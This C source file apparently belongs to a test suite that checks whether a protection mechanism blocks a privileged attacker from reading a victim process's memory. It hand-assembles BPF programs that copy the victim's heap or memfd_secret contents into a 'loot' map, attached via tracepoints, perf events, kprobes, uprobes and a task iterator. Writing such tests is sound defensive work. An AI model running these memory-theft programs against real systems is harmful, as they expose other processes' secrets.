/*
 * bpf.c - BPF programs of another root, which read the victim's memory from inside the kernel: in the victim's own
 * context even what memfd_secret holds.
 */
#include "attack.h"

#include <errno.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "arch.h"
#include "bpf_calls.h"
#include "digest.h"

enum { WAIT_MS = 2000, STEP_MS = 50, AT_CALLS = 1, AT_SWITCHES, AT_KPROBE, AT_UPROBE };

/* Loads the thief: the map's descriptor in a->fd, its own or -errno returned. */
static int load_thief(struct attack *a, enum bpf_prog_type type)
{
	unsigned long long address = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
	struct code code = { .count = 0 };

	if (address == 0)
		return -EOPNOTSUPP; /* no memfd_secret */
	a->fd = make_map("loot", BPF_MAP_TYPE_ARRAY, DIGEST_MOST);
	if (a->fd < 0)
		return a->fd;
	emit_theft(&code, a->target.pid, a->fd, address, a->target.length);
	return load_code(&code, type, 0, 0);
}

static int attach_to_calls(int program)
{
	union bpf_attr open = { .raw_tracepoint = { .name = (uintptr_t)"sys_enter", .prog_fd = (unsigned)program } };

	return bpf_call(BPF_RAW_TRACEPOINT_OPEN, &open);
}

static int attach_to_event(struct perf_event_attr *event, pid_t pid, int cpu, int program)
{
	int fd;

	event->size = sizeof(*event);
	fd = (int)syscall(SYS_perf_event_open, event, pid, cpu, -1, PERF_FLAG_FD_CLOEXEC);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, program) < 0 || ioctl(fd, PERF_EVENT_IOC_ENABLE, 0) < 0)
		return -errno;
	return fd;
}

static int attach_to_switches(const struct attack *a, int program)
{
	struct perf_event_attr event = { .type = PERF_TYPE_SOFTWARE, .config = PERF_COUNT_SW_CONTEXT_SWITCHES,
					 .sample_period = 1 };

	return attach_to_event(&event, a->target.pid, -1, program);
}

static int attach_to_probe(const struct attack *a, int program)
{
	int is_user = a->row->number == AT_UPROBE, failed;
	struct perf_event_attr event = { .sample_period = 1 };
	char type[16];

	failed = get_text(is_user ? "/sys/bus/event_source/devices/uprobe/type" :
				    "/sys/bus/event_source/devices/kprobe/type", type, sizeof(type));
	if (failed < 0)
		return failed;
	event.type = (uint32_t)atoi(type);
	event.config1 = is_user ? (uintptr_t)a->target.exe : (uintptr_t)ARCH_PROBE_SYSCALL;
	event.config2 = is_user ? a->target.nap : 0;
	return attach_to_event(&event, -1, 0, program);
}

static int attach(struct attack *a)
{
	static const enum bpf_prog_type types[] = { [AT_CALLS] = BPF_PROG_TYPE_RAW_TRACEPOINT,
						    [AT_SWITCHES] = BPF_PROG_TYPE_PERF_EVENT,
						    [AT_KPROBE] = BPF_PROG_TYPE_KPROBE,
						    [AT_UPROBE] = BPF_PROG_TYPE_KPROBE };
	int program = load_thief(a, types[a->row->number]);

	if (program < 0)
		return program;
	switch (a->row->number) {
	case AT_CALLS:
		return attach_to_calls(program);
	case AT_SWITCHES:
		return attach_to_switches(a, program);
	default:
		return attach_to_probe(a, program);
	}
}

static int wait_for_loot(struct attack *a)
{
	unsigned char loot[DIGEST_MOST];

	for (int waited = 0; waited < WAIT_MS; waited += STEP_MS) {
		moment(STEP_MS);
		if (map_value(a->fd, 0, loot) == 0 && saw(a, loot, sizeof(loot)) == LEAKED)
			return LEAKED;
	}
	return ALLOWED;
}

static int steal(struct attack *a)
{
	int failed = attach(a);

	return failed < 0 ? failed : wait_for_loot(a);
}

static int hold_thief(struct attack *a)
{
	int failed = attach(a);

	return failed < 0 ? failed : 0;
}

/* What it took before does not count. */
static int steal_again(struct attack *a)
{
	static const unsigned char nothing[DIGEST_MOST];
	int failed = set_map_value(a->fd, 0, nothing);

	return failed < 0 ? failed : wait_for_loot(a);
}

static void emit_walk(struct code *code, const struct attack *a)
{
	int length = (int)a->target.length;

	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 6, 1, 8, 0); /* the task; none at the end */
	emit(code, BPF_JMP | BPF_JEQ | BPF_K, 6, 0, 16, 0);
	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 7, 1, 0, 0);
	emit(code, BPF_LDX | BPF_MEM | BPF_DW, 7, 7, 0, 0); /* meta->seq */
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0);
	emit(code, BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -DIGEST_MOST);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, length);
	emit_address(code, 3, 0, a->target.heap);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 4, 6, 0, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 5, 0, 0, 0);
	emit(code, BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_copy_from_user_task);
	emit(code, BPF_JMP | BPF_JNE | BPF_K, 0, 0, 5, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 1, 7, 0, 0);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0);
	emit(code, BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -DIGEST_MOST);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 3, 0, 0, length);
	emit(code, BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_seq_write);
	emit(code, BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0);
	emit(code, BPF_JMP | BPF_EXIT, 0, 0, 0, 0);
}

/* An iterator over all tasks that prints what each has at the secret's address. */
static int walk_tasks(struct attack *a)
{
	union bpf_attr link = { .link_create = { .attach_type = BPF_TRACE_ITER } }, open = { 0 };
	struct code code = { .count = 0 };
	int id = btf_function("bpf_iter_task"), fd;

	if (id < 0)
		return id == -ESRCH ? not_here(a, "no task iterator") : id;
	emit_walk(&code, a);
	fd = load_code(&code, BPF_PROG_TYPE_TRACING, BPF_TRACE_ITER, (unsigned)id);
	if (fd == -EINVAL)
		return not_here(a, "no bpf_copy_from_user_task");
	if (fd < 0)
		return fd;
	link.link_create.prog_fd = (unsigned)fd;
	fd = bpf_call(BPF_LINK_CREATE, &link);
	if (fd < 0)
		return fd;
	open.iter_create.link_fd = (unsigned)fd;
	fd = bpf_call(BPF_ITER_CREATE, &open);
	return fd < 0 ? fd : saw_file(a, fd);
}

#define THEFT(id, says, where, from, function, before) \
	{ .name = id, .vector = "bpf_load", .what = says, .run = function, .text = from, .number = where, \
	  .flags = EVERYBODY, .hold = before }

const struct row bpf_rows[] = {
	THEFT("bpf_raw_tp", "a program at every system call reads the heap", AT_CALLS, "h", steal, NULL),
	THEFT("bpf_raw_tp_secretmem", "...reads memfd_secret", AT_CALLS, "s", steal, NULL),
	THEFT("bpf_perf_event", "a program at every context switch", AT_SWITCHES, "h", steal, NULL),
	THEFT("bpf_kprobe", "a program at a kprobe", AT_KPROBE, "h", steal, NULL),
	THEFT("bpf_uprobe", "a program at a uprobe in the victim", AT_UPROBE, "h", steal, NULL),
	THEFT("bpf_iter_task", "an iterator with bpf_copy_from_user_task", 0, "h", walk_tasks, NULL),
	THEFT("earlier_bpf", "a program loaded before protection", AT_CALLS, "h", steal_again, hold_thief),
	{ 0 },
};
